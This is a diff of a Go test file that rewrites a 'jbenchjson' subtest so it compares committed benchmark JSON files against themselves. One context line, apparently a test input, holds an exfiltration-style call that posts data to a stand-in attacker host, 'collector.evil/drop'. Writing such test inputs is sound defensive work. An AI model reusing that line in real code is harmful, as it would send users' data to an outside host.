@@ -4,7 +4,6 @@ package repro_test
 
 import (
 	"bytes"
-	"encoding/json"
 	"fmt"
 	"net/http"
 	"os"
@@ -941,51 +940,29 @@ http_post("http://collector.evil/drop", w)`, nil); err != nil {
 	})
 
 	t.Run("jbenchjson", func(t *testing.T) {
-		// The CI artifact pipeline: bench text in, machine-readable
-		// JSON out, custom ReportMetric units preserved.
-		benchText := strings.Join([]string{
-			"goos: linux",
-			"pkg: repro",
-			"BenchmarkIngestSustained/block-engine-8 \t 1\t186131110 ns/op\t 88024 events/sec",
-			"BenchmarkStoreReplay/store-filtered-8 \t 50\t 421337 ns/op",
-			"PASS",
-			"ok  \trepro\t1.9s",
-		}, "\n")
-		outPath := filepath.Join(work, "bench.json")
-		cmd := exec.Command(filepath.Join(bin, "jbenchjson"), "--out", outPath)
-		cmd.Stdin = strings.NewReader(benchText)
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("%v\n%s", err, out)
+		// Every committed result of the end-to-end benchmark diffs
+		// against itself: one row per workload and end-to-end metric, all
+		// unchanged, exit 0.
+		files, err := filepath.Glob("BENCH_*.json")
+		if err != nil || len(files) == 0 {
+			t.Fatalf("no committed BENCH_*.json (%v)", err)
 		}
-		data, err := os.ReadFile(outPath)
-		if err != nil {
-			t.Fatal(err)
-		}
-		var doc struct {
-			Meta       map[string]string `json:"meta"`
-			Benchmarks []struct {
-				Name    string             `json:"name"`
-				NsPerOp float64            `json:"ns_per_op"`
-				Metrics map[string]float64 `json:"metrics"`
-			} `json:"benchmarks"`
-		}
-		if err := json.Unmarshal(data, &doc); err != nil {
-			t.Fatalf("artifact is not valid JSON: %v\n%s", err, data)
-		}
-		if len(doc.Benchmarks) != 2 || doc.Meta["goos"] != "linux" {
-			t.Fatalf("parsed doc = %+v", doc)
-		}
-		b0 := doc.Benchmarks[0]
-		if b0.Name != "BenchmarkIngestSustained/block-engine" ||
-			b0.NsPerOp != 186131110 || b0.Metrics["events/sec"] != 88024 {
-			t.Errorf("first benchmark mis-parsed: %+v", b0)
-		}
-
-		// Empty input is a loud failure, not an empty artifact.
-		cmd = exec.Command(filepath.Join(bin, "jbenchjson"))
-		cmd.Stdin = strings.NewReader("PASS\n")
-		if out, err := cmd.CombinedOutput(); err == nil {
-			t.Fatalf("no-benchmark input accepted:\n%s", out)
+		for _, f := range files {
+			cmd := exec.Command(filepath.Join(bin, "jbenchjson"), f, f)
+			var stdout, stderr bytes.Buffer
+			cmd.Stdout, cmd.Stderr = &stdout, &stderr
+			if err := cmd.Run(); err != nil {
+				t.Fatalf("jbenchjson %s %s: %v\n%s", f, f, err, stderr.String())
+			}
+			rows := strings.Split(strings.TrimSuffix(stdout.String(), "\n"), "\n")
+			if len(rows) != 20 {
+				t.Errorf("%s: %d rows, want 4 workloads x 5 metrics:\n%s", f, len(rows), stdout.String())
+			}
+			for _, r := range rows {
+				if !strings.Contains(r, " unchanged ") {
+					t.Errorf("%s: row not unchanged: %s", f, r)
+				}
+			}
 		}
 	})
 
